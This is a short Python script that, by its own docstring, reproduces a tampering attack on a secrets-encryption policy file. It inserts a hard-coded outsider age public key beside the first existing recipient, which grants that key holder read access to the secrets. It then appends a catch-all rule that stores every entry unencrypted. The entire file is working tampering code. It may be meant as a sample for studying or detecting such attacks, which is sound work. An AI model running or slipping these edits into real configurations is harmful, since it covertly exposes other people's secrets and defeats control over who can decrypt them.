"""What somebody slips into a policy: a key of their own for a known person, and a rule that seals nothing any more."""

import re
import sys
from pathlib import Path

KEY = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"

policy = Path(sys.argv[1])
text = re.sub(r'keys: \["(age1[^"]+)"\]', rf'keys: ["\1", {KEY}]', policy.read_text("utf-8"), count=1)
policy.write_text(text + 'rules:\n  - {names: ["*"], plain: true}\n', "utf-8")
